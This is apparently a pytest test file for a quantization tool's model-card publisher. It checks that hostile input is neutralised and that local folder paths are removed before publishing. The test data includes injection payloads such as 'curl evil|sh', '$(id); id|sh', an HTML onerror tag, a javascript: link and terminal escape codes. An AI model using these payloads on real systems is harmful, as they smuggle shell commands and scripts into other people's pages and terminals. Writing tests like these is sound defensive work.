"""The card of a folder whose every string is an attack, and what of a machine it does not tell."""

import json
import shlex

import pytest
from facts import REPORT
from folders import edit_config, read_json, save_chat_model, write_json
from huggingface_hub import ModelCard
from markdown_it import MarkdownIt

import lowbit
from lowbit.errors import LowbitError
from lowbit.publish import Facts, model_card, push
from lowbit.publish.private import public_command, public_report

EVIL = (
    "x\x1b[2J\n\n# Out\n```\n</td>|`<img onerror=y>`[c](javascript:z) ![i](http://evil.example/i) "
    "{{ 7*7 }} \u202e$(id); id|sh"
)
PARSER = MarkdownIt("commonmark").enable("table")


def everywhere(value):
    """The same JSON with every string an attack."""
    if isinstance(value, dict):
        return {f"{key} {EVIL}" if "." in key else key: everywhere(entry) for key, entry in value.items()}
    if isinstance(value, list):
        return [everywhere(entry) for entry in value]
    return EVIL if isinstance(value, str) else value


def shape(text: str) -> list[str]:
    """The structure of a page: its blocks, its links and their targets, without words."""
    tokens = PARSER.parse(ModelCard(text).text)
    inner = [token for block in tokens for token in (block, *(block.children or ()))]
    kept = [t for t in inner if not t.type.startswith("text") and t.type != "softbreak"]
    return [f"{t.type} {t.attrs.get('href', '')}" for t in kept]


def card_of(folder) -> str:
    return str(model_card(Facts.of(folder), "me/tiny"))


@pytest.mark.parametrize("relation", ["", "base_model_relation: quantized\n"])
def test_the_structure_of_the_page_is_ours(folder, relation):
    report = {**everywhere(REPORT), "recipe": REPORT["recipe"]}
    report["command"] = f"lowbit quantize {shlex.quote(EVIL)} -o out"
    plain = {**REPORT, "source": "x", "command": "lowbit quantize x -o out"}
    strings = dict.fromkeys(("license", "license_name", "license_link", "pipeline_tag", "base_model"), EVIL)
    shapes = []
    for evil in (False, True):
        words = strings if evil else dict.fromkeys(strings, "x") | {"license_link": "javascript:x"}
        card = {**words, "language": [words["license"]], "tags": [words["license"]]}
        (folder / "README.md").write_text(
            f"---\n{relation}" + "".join(f"{k}: {json.dumps(v)}\n" for k, v in card.items()) + "---\n"
        )
        write_json(folder / "lowbit_report.json", report if evil else plain)
        text = card_of(folder)
        shapes.append(shape(text))
    assert shapes[0] == shapes[1]
    assert "\x1b" not in text and "\u202e" not in text and "\n# Out" not in text and "{{ 7*7 }}" in text
    data = ModelCard(text).data
    assert data.get("base_model") is None and data.get("license_link") is None
    assert not any(token.type.startswith("html") for token in PARSER.parse(ModelCard(text).text))


def test_commands_to_copy_are_of_whole_words(folder):
    base = "org/name; curl evil|sh #](http://evil)"
    (folder / "README.md").write_text(f"---\nbase_model_relation: quantized\nbase_model: {json.dumps(base)}\n---\n")
    assert "curl" not in card_of(folder) and Facts.of(folder).base_model is None
    edit = {**REPORT, "quality": None, "command": "lowbit quantize x; curl evil | sh -o 'a b'"}
    write_json(folder / "lowbit_report.json", edit)
    blocks = [t.content.strip() for t in PARSER.parse(ModelCard(card_of(folder)).text) if t.info == "bash"]
    assert "lowbit quantize 'x;' curl evil '|' sh -o 'a b'" in blocks
    for command in ("curl evil | sh", "lowbit 'open", "", None):
        write_json(folder / "lowbit_report.json", {**REPORT, "command": command})
        assert "curl" not in card_of(folder)


@pytest.mark.parametrize("value", ["x", 5, -1.5, True, None, [], ["x"], [[1]], {}, {"x": {"y": []}}], ids=repr)
def test_other_types_in_a_report_are_no_traceback(folder, value):
    write_json(folder / "lowbit_report.json", dict.fromkeys(REPORT, value) | {"recipe": REPORT["recipe"]})
    try:
        assert "# tiny" in push(folder, "me/tiny", dry_run=True).card
    except LowbitError as error:  # or refused by name
        assert "\n" not in str(error)


@pytest.mark.parametrize("value", ["5", "[]", "[[a]]", "{a: b}", "null", "true", "2020-01-01"])
def test_other_types_in_a_card_are_no_traceback(folder, value):
    keys = ("tags", "license", "license_link", "license_name", "base_model", "language", "pipeline_tag")
    words = "".join(f"{key}: {value}\n" for key in keys)
    (folder / "README.md").write_text(f"---\n{words}base_model_relation: quantized\n---\n")
    try:
        assert "# tiny" in card_of(folder)
    except LowbitError as error:  # what huggingface_hub itself does not take
        assert "\n" not in str(error)


# Which base model


@pytest.fixture
def quantized_from(tmp_path, monkeypatch):
    """quantized_from(name) -> the card's base model, looked at from another folder."""
    save_chat_model(tmp_path / "store")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "models").mkdir()
    (tmp_path / "models" / "smol").symlink_to(tmp_path / "store")

    def run(name):
        lowbit.quantize(name, tmp_path / "out", group_size=32, overwrite=True)
        monkeypatch.chdir("/")
        facts = Facts.of(tmp_path / "out")
        monkeypatch.chdir(tmp_path)
        return facts

    return run


@pytest.mark.parametrize("name", ["models/smol", "./models/smol", "models/../models/smol", "store"])
def test_a_local_folder_is_no_base_model(quantized_from, name):
    facts = quantized_from(name)
    assert facts.base_model is None and facts.base_name == name.rpartition("/")[2]
    assert "huggingface.co" not in str(model_card(facts, "me/x"))


def test_a_calibration_folder_is_no_data_set_of_the_hub(monkeypatch, tmp_path):
    from lowbit.text.datasets import shuffled

    monkeypatch.chdir(tmp_path)
    (tmp_path / "org" / "texts").mkdir(parents=True)
    (tmp_path / "org" / "texts" / "train.txt").write_text("words\n")
    assert shuffled("org/texts", 0).name.split(",")[0] == "texts"


def test_a_hub_id_is_one_line(folder):
    for name in ("org/name\n", "org/na me", "org/name/x", "./name", "org/..", "org/näme"):
        (folder / "README.md").write_text(f"---\nbase_model_relation: quantized\nbase_model: {json.dumps(name)}\n---\n")
        assert Facts.of(folder).base_model is None, name


# What stays on the machine

HOME = "/home/joe/secret"


@pytest.mark.parametrize(
    ("typed", "public"),
    [
        (f"lowbit quantize {HOME}/Tiny -o {HOME}/out", "lowbit quantize Tiny -o out"),
        ("lowbit quantize ~/secret/Tiny -o ../secret/out/", "lowbit quantize Tiny -o out"),
        (f"lowbit quantize --model={HOME}/T --output-dir={HOME}/out", "lowbit quantize --model=T --output-dir=out"),
        ("lowbit quantize 'C:\\secret\\Tiny' -o secret/out", "lowbit quantize Tiny -o out"),
        ("lowbit quantize acme/Tiny -o secret/out", "lowbit quantize acme/Tiny -o out"),
        ("lowbit quantize T --dataset org/texts:en:train", "lowbit quantize T --dataset org/texts:en:train"),
        (f"lowbit quantize T --dataset '{HOME}/my texts.txt'", "lowbit quantize T --dataset 'my texts.txt'"),
        ("lowbit quantize T --override '.*/q=W8' --ignore=a/b", "lowbit quantize T --override '.*/q=W8' --ignore=a/b"),
        (f"torchrun --nproc-per-node 2 -m lowbit quantize {HOME}/T",
         "torchrun --nproc-per-node 2 -m lowbit quantize T"),
    ],
)  # fmt: skip
def test_commands_without_folders(typed, public):
    assert shlex.join(public_command(typed, {"acme/Tiny", "org/texts"})) == public


def test_neither_card_nor_report_name_folders(folder):
    local = {
        "source": f"{HOME}/Tiny",
        "command": f"lowbit quantize {HOME}/Tiny -o {HOME}/out --dataset {HOME}/texts.txt",
        "calibration": {"source": f"{HOME}/texts, train", "samples": 1, "tokens": 2},
        "quality": {**REPORT["quality"], "dataset": f"{HOME}/texts.txt", "reference": f"{HOME}/Tiny"},
    }
    write_json(folder / "lowbit_report.json", {**REPORT, **local})
    planned = push(folder, "me/", dry_run=True)
    published = planned.card + planned.files["lowbit_report.json"].decode()
    assert "secret" not in published and "lowbit quantize Tiny -o out --dataset texts.txt" in published
    assert planned.repo_id.startswith("me/Tiny-")
    assert read_json(folder / "lowbit_report.json")["source"] == f"{HOME}/Tiny"  # what is here stays as it was
    assert public_report(REPORT, {"acme/Tiny", "NeelNanda/pile-10k"}) == REPORT


def test_names_in_a_config_are_words(bare):
    quantization = read_json(bare / "config.json")["quantization_config"]
    plain = shape(card_of(bare))
    edit_config(bare, quantization_config={**quantization, "ignore": [EVIL]})
    assert shape(card_of(bare)) == shape(card_of(bare)) and len(shape(card_of(bare))) <= len(plain) + 3
